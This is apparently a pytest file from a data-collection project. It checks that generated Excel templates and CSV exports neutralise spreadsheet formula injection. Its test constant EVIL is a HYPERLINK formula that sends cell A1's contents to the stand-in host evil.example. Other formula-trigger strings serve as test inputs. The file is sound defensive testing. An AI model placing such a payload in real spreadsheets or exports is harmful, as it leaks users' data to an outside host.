"""Formula text never reaches a workbook or CSV we generate as something a spreadsheet would run
(issue 15, item 5): templates, the collected dataset version's CSV, and schema field names."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from witan.collect.requests.template import template_xlsx
from witan.collect.uploads.deliver import parquet_to_csv
from witan.validation import SchemaError, parse_schema
from witan.validation.schema import Field, Schema

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("name", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "a\x00b"])
def test_schema_field_names_that_a_spreadsheet_would_run_are_refused(name: str) -> None:
    with pytest.raises(SchemaError, match="field name"):
        parse_schema({"fields": [{"name": name}]})


def test_template_holds_no_formula_even_for_a_schema_built_by_hand(tmp_path: Path) -> None:
    schema = Schema(
        fields=(
            Field(name=EVIL, description="=1+1", constraints={"enum": ["=A", "@B", "C,D"]}),
            Field(name="ok", title="+cmd"),
        )
    )
    data = template_xlsx(schema, title="=TITLE()")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for member in zf.namelist():
            if member.startswith("xl/worksheets/sheet"):
                xml = zf.read(member)
                assert b"<f>" not in xml and b"<f " not in xml, member
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "@")), (ws.title, cell.coordinate)


def test_collected_version_csv_is_neutralised(tmp_path: Path) -> None:
    table = pa.table(
        {
            "name": pa.array([EVIL, "-5", "@x", "plain", None, "+44 20 7946 0000"]),
            "n": pa.array([1, -2, 3, 4, 5, 6], pa.int64()),
        }
    )
    pq.write_table(table, tmp_path / "data.parquet")
    parquet_to_csv(tmp_path / "data.parquet", tmp_path / "data.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "data.csv").read_text())))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + EVIL, "-5", "'@x", "plain", "", "'+44 20 7946 0000"]
    assert [r[1] for r in rows[1:]] == ["1", "-2", "3", "4", "5", "6"]  # numbers are numbers
    assert pq.read_table(tmp_path / "data.parquet").column("name")[0].as_py() == EVIL  # kept as sent
